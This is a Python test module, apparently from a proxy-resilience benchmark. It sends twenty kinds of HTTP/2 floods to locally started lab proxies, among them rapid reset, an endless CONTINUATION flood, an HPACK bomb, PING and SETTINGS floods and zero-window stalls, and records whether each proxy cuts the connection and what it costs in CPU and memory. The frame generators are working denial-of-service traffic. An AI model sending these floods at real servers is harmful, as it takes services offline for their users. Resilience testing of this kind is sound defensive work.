"""HTTP/2 floods: what one client's connection can cost a proxy.

Each kind is sent to a proxy of its own, as configured by default. Seen are whether the proxy ended
the connection, CPU time and resident memory of its processes (of both sidecars where it is a pair).
"""

import concurrent.futures
import itertools
import struct
import threading
import time

import app
import frames
from frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PREFACE, PRIORITY, SETTINGS,
    frame, head, literal, odd, request, reset, settings, window_update,
)  # fmt: skip
from lab import connect

# Goals of each kind.
CPU, GROWTH = 0.3, 16 << 20
# A flood is over when so much was sent, or so long; then the proxy has LINGER to end it.
BYTES, SECONDS, LINGER = 24 << 20, 6, 4
# Those who stall rather than send are told from slow readers by time alone.
STALL = 45
OPEN = END_HEADERS


class Big(app.Http):
    """Answers everything with 4 MiB."""

    BODY = bytes(4 << 20)


def streams(make):
    return (make(stream) for stream in odd())


def rapid_reset():
    return streams(lambda s: head(s) + reset(s))


def made_reset_by_window():
    return streams(lambda s: head(s) + window_update(s, 0))


def made_reset_by_data():
    return streams(lambda s: head(s) + frame(DATA, 0, s, b"x"))


def made_reset_by_priority():
    # A stream cannot depend on itself.
    return streams(lambda s: head(s) + frame(PRIORITY, 0, s, struct.pack(">IB", s, 1)))


def made_reset_by_head():
    # Upper case: a malformed request, refused without a word of the application.
    block = request() + literal(b"A", b"b")
    return streams(lambda s: head(s, block))


def continuation():
    block = b"".join(literal(b"x-%d" % at, b"y" * 100) for at in range(130))
    return itertools.chain(
        [frame(HEADERS, END_STREAM, 1, request())], itertools.repeat(frame(CONTINUATION, 0, 1, block))
    )


def empty_continuation():
    many = frame(CONTINUATION, 0, 1) * 64
    return itertools.chain(
        [frame(HEADERS, END_STREAM, 1, request())], itertools.repeat(many)
    )


def settings_flood():
    return itertools.repeat(settings((frames.INITIAL_WINDOW_SIZE, 65535)) * 32)


def settings_entries():
    # The table's size to and fro, as often as a frame holds.
    pairs = [(frames.HEADER_TABLE_SIZE, 4096 * (at % 2)) for at in range(2700)]
    return itertools.repeat(settings(*pairs))


def ping():
    return itertools.repeat(frame(PING, 0, 0, b"12345678") * 32)


def empty_data():
    start = head(1, request(b"POST"), OPEN)
    return itertools.chain([start], itertools.repeat(frame(DATA, 0, 1) * 64))


def padding():
    # Only padding, which counts against the window: as much as is given back may be sent.
    start = head(1, request(b"POST"), OPEN)
    return itertools.chain([start], itertools.repeat(frame(DATA, PADDED, 1, b"\x00") * 64))


def hpack_bomb():
    # One entry as large as the table, then named as often as a frame holds: 60 MiB of fields each.
    entry = literal(b"x", b"y" * 4000, indexed=True)
    first = [head(1, request() + entry)]
    return itertools.chain(first, (head(s, request() + b"\xbe" * 16000) for s in odd() if s > 1))


def small_fields():
    block = literal(b"a", b"") * 4000
    return streams(lambda s: head(s, request() + block[: 4 * 4000]))


def crumbs():
    # Cookies in pieces, which have to be joined.
    crumb = literal(b"cookie", b"a")
    return streams(lambda s: head(s, request() + crumb * 1600))


def window_flood():
    return itertools.repeat(window_update(0, 1) * 64)


def priority():
    at = itertools.cycle(range(1, 20001, 2))
    return (
        b"".join(frame(PRIORITY, 0, next(at), struct.pack(">IB", 0, 15)) for _ in range(64))
        for _ in itertools.count()
    )


def unknown():
    return itertools.repeat(frame(0xEE, 0, 0, b"") * 64)


def zero_window():
    start = settings((frames.INITIAL_WINDOW_SIZE, 0))
    return [start, b"".join(head(s) for s in itertools.islice(odd(), 100))]


def one_byte_window():
    start = settings((frames.INITIAL_WINDOW_SIZE, 1))
    ids = list(itertools.islice(odd(), 100))
    opened = b"".join(head(s) for s in ids)
    return itertools.chain([start + opened], itertools.repeat(b"".join(window_update(s, 1) for s in ids)))


# name: what is sent, whether the flooder reads meanwhile.
KINDS = {
    "rapid reset": (rapid_reset, True),
    "made to reset, by WINDOW_UPDATE of 0": (made_reset_by_window, True),
    "made to reset, by DATA after the end": (made_reset_by_data, True),
    "made to reset, by PRIORITY": (made_reset_by_priority, True),
    "made to reset, by malformed heads": (made_reset_by_head, True),
    "CONTINUATION without end": (continuation, True),
    "empty CONTINUATION": (empty_continuation, True),
    "SETTINGS, answers unread": (settings_flood, False),
    "SETTINGS of thousands of entries": (settings_entries, False),
    "PING, answers unread": (ping, False),
    "empty DATA": (empty_data, True),
    "DATA of padding": (padding, True),
    "HPACK bomb": (hpack_bomb, True),
    "thousands of small fields": (small_fields, True),
    "cookies in crumbs": (crumbs, True),
    "WINDOW_UPDATE": (window_flood, True),
    "PRIORITY": (priority, True),
    "frames of an unknown type": (unknown, True),
    "zero window, 100 streams": (zero_window, True),
    "windows of one byte, 100 streams": (one_byte_window, True),
}


class Watch(threading.Thread):
    """Looks at the memory of a place until told to stop."""

    def __init__(self, place):
        super().__init__(daemon=True)
        self.place, self.first, self.over = place, place.rss(), threading.Event()
        self.most = self.first
        self.start()

    def run(self):
        while not self.over.wait(0.02):
            self.most = max(self.most, self.place.rss())

    def growth(self):
        self.over.set()
        self.join()
        return max(self.most, self.place.rss()) - self.first


def drain(connection):
    """Takes what is there; whether the connection has ended."""
    try:
        while True:
            if not connection.recv(1 << 16):
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def flood(port, pieces, reads):
    """Sends all; whether the proxy ended the connection."""
    with connect(port, 10) as connection:
        connection.sendall(PREFACE + settings())
        connection.setblocking(False)
        end, sent, pending = time.monotonic() + SECONDS, 0, b""
        pieces = iter(pieces)
        while time.monotonic() < end and sent < BYTES:
            if reads and drain(connection):
                return True
            # Some pieces at once, as a flooder would.
            while len(pending) < 1 << 14 and (piece := next(pieces, None)) is not None:
                pending += piece
            if not pending:
                break
            try:
                count = connection.send(pending)
                sent, pending = sent + count, pending[count:]
            except BlockingIOError:
                time.sleep(0.002)
            except OSError:
                return True
        # The peer detects a stalled client only by its timeout; any other flood was long enough.
        end = time.monotonic() + (LINGER if sent > 1 << 16 else STALL)
        while time.monotonic() < end:
            if drain(connection):
                return True
            time.sleep(0.02)
        return False


def one(peer, lab, make, reads):
    place = peer.front(lab, lab.add(Big()).port, takes="http2")
    # Memory that the first request takes does not count as growth.
    serves(place.port)
    watch, before = Watch(place), place.cpu()
    ended = flood(place.port, make(), reads)
    # Work that continues after the end counts, too.
    time.sleep(0.3)
    cpu, growth = place.cpu() - before, watch.growth()
    for process in place.processes:
        process.check()
    good = serves(place.port)
    for process in place.processes:
        process.end()
    return {
        "ended": ended,
        "cpu": round(cpu, 2),
        "growth": growth,
        "serves": good,
        "met": ended and cpu <= CPU + 0.005 and growth <= GROWTH and good,
    }


def serves(port):
    """A request as anybody's; whether it is answered."""
    try:
        with connect(port, 10) as connection:
            connection.sendall(PREFACE + settings() + head(1))
            data = b""
            while more := connection.recv(65536):
                data += more
                at = 0
                while at + 9 <= len(data):
                    length = int.from_bytes(data[at : at + 3], "big")
                    kind, stream = data[at + 3], data[at + 8]
                    if kind == HEADERS and stream == 1:
                        return True
                    at += 9 + length
                data = data[at:]
    except OSError:
        pass
    return False


def run(peer, lab, options):
    # Some at once, the one that takes longest first: CPU time and memory are those of processes.
    names = sorted(KINDS, key=lambda name: "zero" not in name)
    with concurrent.futures.ThreadPoolExecutor(3) as pool:
        work = {name: pool.submit(one, peer, lab, *KINDS[name]) for name in names}
        found = {name: work[name].result() for name in KINDS}
    return {"cases": len(found), "met": sum(one["met"] for one in found.values()), "kinds": found}
